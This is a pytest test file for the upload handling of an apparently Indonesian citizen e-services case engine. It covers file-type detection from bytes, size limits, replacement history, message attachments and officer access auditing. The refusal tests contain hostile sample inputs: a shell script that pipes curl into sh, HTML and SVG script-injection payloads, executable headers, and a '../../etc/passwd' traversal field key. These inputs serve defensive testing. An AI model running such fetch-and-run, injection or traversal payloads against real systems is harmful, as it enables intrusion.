"""Uploads of the case engine (issue: a citizen applies online): a draft's applicant uploads
the documents its form asks for; the real type is read from the bytes, so a program, a web
page or an SVG renamed ``.pdf`` is refused, as are empty and oversize files; nothing is
stored when an upload is refused or fails; a new upload replaces the previous one and keeps
it in the history; files travel with messages; only the applicant and the officers of the
case may open a document, and each officer's look is in the audit trail."""

import hashlib
import io
import struct
import zlib
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import timezone, translation
from reportlab.pdfgen import canvas

from satupintu.cases.answers import applicant_context, validate_answers
from satupintu.cases.constants import EventKind, SubmissionStatus
from satupintu.cases.documents import document_attach_to_message, document_open, document_upload
from satupintu.cases.models import CaseEvent, Document, Submission
from satupintu.cases.services import case_open, message_post
from satupintu.catalog.models import Service
from satupintu.core.errors import Conflict, DomainError, Forbidden, NotFound
from satupintu.core.models import AuditEvent

pytestmark = pytest.mark.django_db

BIRTH = "dukcapil-surabaya.akta-kelahiran"
LAND = "atrbpn-surabaya.pengecekan-sertifikat"  # certificate_file: PDF or JPEG, 10 MB
JOBS = "disnaker-surabaya.kartu-pencari-kerja"  # photo_file: JPEG or PNG, 2 MB

# A 1x1 grey JPEG, as a camera would write it (JFIF header to end-of-image marker).
JPEG = bytes.fromhex(
    "ffd8ffe000104a46494600010100000100010000ffdb00430050373c463c32504641465a55505f78c882786e"
    "6e78f5afb991c8ffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffff"
    "ffffc0000b080001000101011100ffc40014000100000000000000000000000000000000ffc4001410010000"
    "0000000000000000000000000000ffda0008010100003f003fffd9"
)


def pdf() -> bytes:
    buffer = io.BytesIO()
    page = canvas.Canvas(buffer)
    page.drawString(72, 720, "Surat keterangan lahir")
    page.save()
    return buffer.getvalue()


def png() -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        body = kind + data
        return struct.pack(">I", len(data)) + body + struct.pack(">I", zlib.crc32(body))

    header = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)  # 1x1, 8-bit RGB
    pixels = zlib.compress(b"\x00\xc8\x0a\x0a")
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")
    )


def upload(content: bytes, name: str = "surat.pdf", content_type: str = "application/pdf"):
    return SimpleUploadedFile(name, content, content_type=content_type)


@pytest.fixture(autouse=True)
def media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"
    settings.SATUPINTU_UPLOAD_MAX_MB = 20
    with translation.override("en"):
        yield settings.MEDIA_ROOT


def stored_files(root: Path) -> list[Path]:
    return [path for path in Path(root).rglob("*") if path.is_file()]


def draft(user, code: str = BIRTH) -> Submission:
    return Submission.objects.create(
        applicant=user,
        service_version=Service.objects.get(code=code).current_version,
        status=SubmissionStatus.DRAFT,
    )


def submit(submission: Submission):
    """Send a draft as the engine does once its answers are checked: its case opens and its
    uploads go with it."""
    now = timezone.now()
    submission.status, submission.submitted_at = SubmissionStatus.SUBMITTED, now
    submission.tracking = f"T{submission.pk:07d}"
    submission.save()
    return case_open(
        submission=submission,
        service_version=submission.service_version,
        submitted_at=now,
        actor=submission.applicant,
    )


# Accepted files ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("content", "name", "content_type"),
    [
        (pdf(), "Surat Lahir Ayu.pdf", "application/pdf"),
        (JPEG, "foto surat.jpg", "image/jpeg"),
        (png(), "scan.png", "image/png"),
    ],
)
def test_a_real_pdf_jpeg_or_png_is_stored_under_an_opaque_name(
    people, media, content, name, content_type
):
    submission = draft(people["warga"])
    # The browser's claims do not matter: the type is read from the bytes.
    document = document_upload(
        submission=submission,
        field_key="birth_statement_file",
        upload=upload(content, name, "application/octet-stream"),
        actor=people["warga"],
    )
    assert document.content_type == content_type
    assert document.size == len(content)
    assert document.sha256 == hashlib.sha256(content).hexdigest()
    assert document.original_name == name
    assert document.requirement == "surat-keterangan-lahir"
    assert document.replaced is False and document.uploaded_by == people["warga"]
    assert "Ayu" not in document.file.name and document.file.name.startswith("documents/")
    files = stored_files(media)
    assert len(files) == 1 and files[0].read_bytes() == content
    event = AuditEvent.objects.get(action="document.uploaded")
    assert event.object_id == str(document.public_id) and event.subject == people["warga"]
    assert name not in str(event.details) and "Ayu" not in str(event.details)


def test_an_upload_answers_its_field(people):
    submission = draft(people["warga"])
    document = document_upload(
        submission=submission,
        field_key="birth_statement_file",
        upload=upload(pdf()),
        actor=people["warga"],
    )
    context = applicant_context(user=people["warga"])
    cleaned, errors = validate_answers(
        definition=submission.service_version.definition,
        answers={"has_birth_statement": True},
        context=context,
        submission=submission,
    )
    assert cleaned["birth_statement_file"] == str(document.public_id)
    assert "birth_statement_file" not in {error.path for error in errors}


# Refused files --------------------------------------------------------------------------------


def refused(
    people,
    content: bytes,
    *,
    code: str,
    field_key: str = "birth_statement_file",
    service: str = BIRTH,
    name: str = "surat.pdf",
) -> DomainError:
    submission = draft(people["warga"], service)
    with pytest.raises(DomainError) as raised:
        document_upload(
            submission=submission,
            field_key=field_key,
            upload=upload(content, name),
            actor=people["warga"],
        )
    assert raised.value.code == code
    assert not Document.objects.filter(submission=submission).exists()
    return raised.value


@pytest.mark.parametrize(
    "content",
    [
        b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 200,  # a Linux program
        b"MZ\x90\x00\x03\x00\x00\x00" + b"\x00" * 200,  # a Windows program
        b"#!/bin/sh\ncurl http://example.invalid | sh\n",  # a shell script
        b"<html><body><script>alert(1)</script></body></html>",
        b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script/></svg>',
        b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'></svg>\n",
    ],
    ids=["elf", "exe", "shell", "html", "svg-xml", "svg"],
)
def test_a_program_or_a_web_page_renamed_pdf_is_refused(people, media, content):
    error = refused(people, content, code="file_type_not_allowed")
    assert error.detail == (
        "This file is not a PDF, JPEG or PNG file, whatever its name says. Upload a PDF, JPEG "
        "or PNG file of at most 5 MB; a photo or a scan saved in one of these types is fine."
    )
    assert stored_files(media) == []


def test_only_the_fields_types_are_accepted(people, media):
    error = refused(
        people,
        png(),
        code="file_type_not_allowed",
        service=LAND,
        field_key="certificate_file",
        name="sertifikat.png",
    )
    assert "not a PDF or JPEG file" in error.detail and "at most 10 MB" in error.detail
    submission = draft(people["warga"], LAND)
    document = document_upload(
        submission=submission,
        field_key="certificate_file",
        upload=upload(JPEG, "sertifikat.pdf"),
        actor=people["warga"],
    )
    assert document.content_type == "image/jpeg"


def test_an_empty_file_is_refused(people, media):
    error = refused(people, b"", code="empty_file")
    assert "empty" in error.detail and "PDF, JPEG or PNG" in error.detail
    assert stored_files(media) == []


def test_a_file_over_the_fields_limit_is_refused_whatever_size_it_declares(people, media):
    too_big = JPEG[:-2] + b"\x00" * (2 * 1024 * 1024) + b"\xff\xd9"  # photo_file: 2 MB
    error = refused(people, too_big, code="file_too_large", service=JOBS, field_key="photo_file")
    assert error.status == 413
    assert "the limit is 2 MB" in error.detail and "JPEG or PNG" in error.detail
    submission = draft(people["warga"], JOBS)
    lying = upload(too_big, "foto.jpg", "image/jpeg")
    lying.size = 1000
    with pytest.raises(DomainError) as raised:
        document_upload(
            submission=submission, field_key="photo_file", upload=lying, actor=people["warga"]
        )
    assert raised.value.code == "file_too_large"
    assert stored_files(media) == []


def test_the_platform_limit_applies_when_the_definition_names_none(people, media, settings):
    settings.SATUPINTU_UPLOAD_MAX_MB = 1
    case = submit(draft(people["warga"]))
    message = message_post(case=case, actor=people["warga"], body="Ini berkasnya.")
    big = pdf()[:-6] + b" " * (1024 * 1024) + b"%%EOF\n"
    with pytest.raises(DomainError) as raised:
        document_attach_to_message(
            case=case, message=message, upload=upload(big), actor=people["warga"]
        )
    assert raised.value.code == "file_too_large" and "the limit is 1 MB" in raised.value.detail


def test_a_pdf_cut_short_is_refused_as_damaged(people, media):
    content = pdf()
    error = refused(people, content[: len(content) // 2], code="invalid_file")
    assert "incomplete or damaged" in error.detail
    assert stored_files(media) == []


def test_nothing_is_stored_when_writing_the_record_fails(people, media, monkeypatch):
    from satupintu.cases import documents

    def broken(**kwargs):
        raise RuntimeError("the audit trail is down")

    monkeypatch.setattr(documents, "audit_record", broken)
    submission = draft(people["warga"])
    with pytest.raises(RuntimeError):
        document_upload(
            submission=submission,
            field_key="birth_statement_file",
            upload=upload(pdf()),
            actor=people["warga"],
        )
    assert stored_files(media) == []
    assert not Document.objects.exists()


# Replacement and who may upload ---------------------------------------------------------------


def test_a_new_upload_replaces_the_previous_one_which_stays_in_the_history(people, media):
    submission = draft(people["warga"])
    first = document_upload(
        submission=submission,
        field_key="birth_statement_file",
        upload=upload(pdf(), "lama.pdf"),
        actor=people["warga"],
    )
    second = document_upload(
        submission=submission,
        field_key="birth_statement_file",
        upload=upload(JPEG, "baru.jpg"),
        actor=people["warga"],
    )
    other = document_upload(
        submission=submission,
        field_key="marriage_book_file",
        upload=upload(png(), "nikah.png"),
        actor=people["warga"],
    )
    first.refresh_from_db()
    assert first.replaced is True
    assert Document.objects.get(pk=second.pk).replaced is False
    assert Document.objects.get(pk=other.pk).replaced is False
    assert len(stored_files(media)) == 3  # the replaced file is kept
    event = AuditEvent.objects.filter(action="document.uploaded").order_by("id")[1]
    assert event.details["replaces"] == [str(first.public_id)]


def test_only_the_applicant_of_a_draft_uploads_to_its_form(people, media):
    submission = draft(people["warga"])
    for actor in (people["warga2"], people["petugas.dukcapil"]):
        with pytest.raises(NotFound):
            document_upload(
                submission=submission,
                field_key="birth_statement_file",
                upload=upload(pdf()),
                actor=actor,
            )
    submit(submission)
    with pytest.raises(Conflict) as raised:
        document_upload(
            submission=submission,
            field_key="birth_statement_file",
            upload=upload(pdf()),
            actor=people["warga"],
        )
    assert raised.value.code == "already_submitted"
    assert stored_files(media) == []


@pytest.mark.parametrize(
    "field_key", ["child_name", "no_such_file", "", "../../etc/passwd", "witnesses[0].nik"]
)
def test_an_upload_goes_to_a_file_field_of_the_form(people, media, field_key):
    with pytest.raises(DomainError) as raised:
        document_upload(
            submission=draft(people["warga"]),
            field_key=field_key,
            upload=upload(pdf()),
            actor=people["warga"],
        )
    assert raised.value.code == "invalid_field"
    assert stored_files(media) == []


def test_an_upload_cannot_claim_another_requirement_than_its_fields(people, media):
    submission = draft(people["warga"])
    for requirement in ("buku-nikah", "no-such-requirement"):
        with pytest.raises(DomainError) as raised:
            document_upload(
                submission=submission,
                field_key="birth_statement_file",
                upload=upload(pdf()),
                actor=people["warga"],
                requirement=requirement,
            )
        assert raised.value.code == "invalid_field"
    document = document_upload(
        submission=submission,
        field_key="birth_statement_file",
        upload=upload(pdf()),
        actor=people["warga"],
        requirement="surat-keterangan-lahir",
    )
    assert document.requirement == "surat-keterangan-lahir"
    assert len(stored_files(media)) == 1


# Messages ------------------------------------------------------------------------------------------


def test_files_travel_with_the_messages_of_a_case(people, media):
    case = submit(draft(people["warga"]))
    message = message_post(case=case, actor=people["warga"], body="Ini SPTJM-nya.")
    document = document_attach_to_message(
        case=case, message=message, upload=upload(pdf()), actor=people["warga"]
    )
    assert (document.case, document.message, document.field_key) == (case, message, "")
    event = CaseEvent.objects.filter(case=case, kind=EventKind.DOCUMENT).get()
    assert event.actor == people["warga"] and not event.internal
    reply = message_post(case=case, actor=people["petugas.dukcapil"], body="Diterima.")
    officer_file = document_attach_to_message(
        case=case, message=reply, upload=upload(JPEG, "cap.jpg"), actor=people["petugas.dukcapil"]
    )
    assert officer_file.uploaded_by == people["petugas.dukcapil"]
    assert AuditEvent.objects.filter(action="document.attached").count() == 2


def test_only_the_author_of_a_message_in_the_case_attaches_to_it(people, media):
    case = submit(draft(people["warga"]))
    reply = message_post(case=case, actor=people["petugas.dukcapil"], body="Mohon lengkapi.")
    with pytest.raises(Forbidden):
        document_attach_to_message(
            case=case, message=reply, upload=upload(pdf()), actor=people["warga"]
        )
    with pytest.raises(NotFound):
        document_attach_to_message(
            case=case, message=reply, upload=upload(pdf()), actor=people["petugas.dpmptsp"]
        )
    other_case = submit(draft(people["warga"]))
    with pytest.raises(NotFound):
        document_attach_to_message(
            case=other_case, message=reply, upload=upload(pdf()), actor=people["petugas.dukcapil"]
        )
    mine = message_post(case=case, actor=people["warga"], body="Ini berkasnya.")
    with pytest.raises(DomainError) as raised:
        document_attach_to_message(
            case=case,
            message=mine,
            upload=upload(b"<html></html>", "berkas.pdf"),
            actor=people["warga"],
        )
    assert raised.value.code == "file_type_not_allowed"
    assert stored_files(media) == []


# Opening ---------------------------------------------------------------------------------------


def uploaded_case(people):
    submission = draft(people["warga"])
    document = document_upload(
        submission=submission,
        field_key="birth_statement_file",
        upload=upload(pdf()),
        actor=people["warga"],
    )
    case = submit(submission)
    document.refresh_from_db()
    return case, document


def test_the_applicant_opens_their_document_without_an_audit_of_their_own_look(people, media):
    _case, document = uploaded_case(people)
    with document_open(document=document, actor=people["warga"]) as opened:
        assert opened.read() == stored_files(media)[0].read_bytes()
    assert not AuditEvent.objects.filter(action="document.viewed").exists()


def test_an_officer_of_the_case_opens_it_and_the_look_is_audited(people, media):
    case, document = uploaded_case(people)
    assert document.case == case
    with document_open(document=document, actor=people["petugas.dukcapil"]) as opened:
        assert opened.read().startswith(b"%PDF")
    event = AuditEvent.objects.get(action="document.viewed")
    assert event.actor == people["petugas.dukcapil"]
    assert event.subject == people["warga"]
    assert event.object_id == str(document.public_id)
    assert event.details == {"case": str(case.public_id)}


def test_nobody_else_opens_a_document(people, media):
    _case, document = uploaded_case(people)
    for actor in (people["warga2"], people["petugas.dpmptsp"], people["penyelia.dpmptsp"]):
        with pytest.raises(NotFound):
            document_open(document=document, actor=actor)
    assert not AuditEvent.objects.filter(action="document.viewed").exists()
    # Before the application is sent, no officer sees its uploads.
    submission = draft(people["warga"])
    pending = document_upload(
        submission=submission,
        field_key="birth_statement_file",
        upload=upload(pdf()),
        actor=people["warga"],
    )
    with pytest.raises(NotFound):
        document_open(document=pending, actor=people["petugas.dukcapil"])


def test_the_applicant_does_not_open_files_of_internal_notes(people, media):
    case, _document = uploaded_case(people)
    note = message_post(
        case=case, actor=people["petugas.dukcapil"], body="Cek SIAK.", internal=True
    )
    attached = document_attach_to_message(
        case=case, message=note, upload=upload(pdf()), actor=people["petugas.dukcapil"]
    )
    assert CaseEvent.objects.get(case=case, kind=EventKind.DOCUMENT).internal is True
    with pytest.raises(NotFound):
        document_open(document=attached, actor=people["warga"])
    document_open(document=attached, actor=people["penyelia.dukcapil"]).close()
